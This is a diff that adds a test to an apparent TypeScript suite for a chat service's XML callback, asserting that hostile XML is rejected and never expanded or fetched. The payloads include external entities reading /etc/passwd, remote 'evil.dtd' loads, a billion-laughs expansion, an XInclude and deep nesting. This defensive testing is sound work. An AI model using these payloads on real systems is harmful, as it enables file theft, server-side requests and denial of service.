@@ -70,6 +70,27 @@ describe('the send call', () => {
     }
   });
 
+  it('refuses XML with types, entities, inclusions and nesting, and expands none of it', async (context) => {
+    const stage = await startChatDesk(context);
+    const good = printFlatXml(message({ Content: 'secret' })).replace('<![CDATA[secret]]>', '&x;');
+    const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY x${n} "${`&x${n + 1};`.repeat(10)}">`).join('');
+    for (const attack of [
+      `<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]>${good}`,
+      `<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY % p SYSTEM "${stage.receiver.url}/evil.dtd">%p;]>${good}`,
+      `<!DOCTYPE xml SYSTEM "${stage.receiver.url}/evil.dtd">${good}`,
+      `<!DOCTYPE xml [${laughs}<!ENTITY x9 "ha"><!ENTITY x "&x0;">]>${good}`,
+      good.replace('&x;', '<xi:include href="file:///etc/passwd" parse="text"/>'),
+      good.replace('&x;', '<b>secret</b>'),
+      `${'<xml>'.repeat(5000)}${'</xml>'.repeat(5000)}`,
+      good,
+    ]) {
+      const { status, success, msg } = await call(stage, 'im_callback', attack);
+      assert.deepEqual([status, success], [200, false], attack.slice(0, 80));
+      assert.equal(msg, 'the body is not XML whose only elements are texts in one root, or too large');
+    }
+    assert.equal(stage.receiver.calls.length, 0, 'nothing is fetched, and nobody is answered');
+  });
+
   it('must be about the signed number and e-mail, and media must have an address', async (context) => {
     const stage = await startChatDesk(context);
     const refused = async (more: object) => (await call(stage, 'im_callback', printFlatXml(message(more)))).msg;
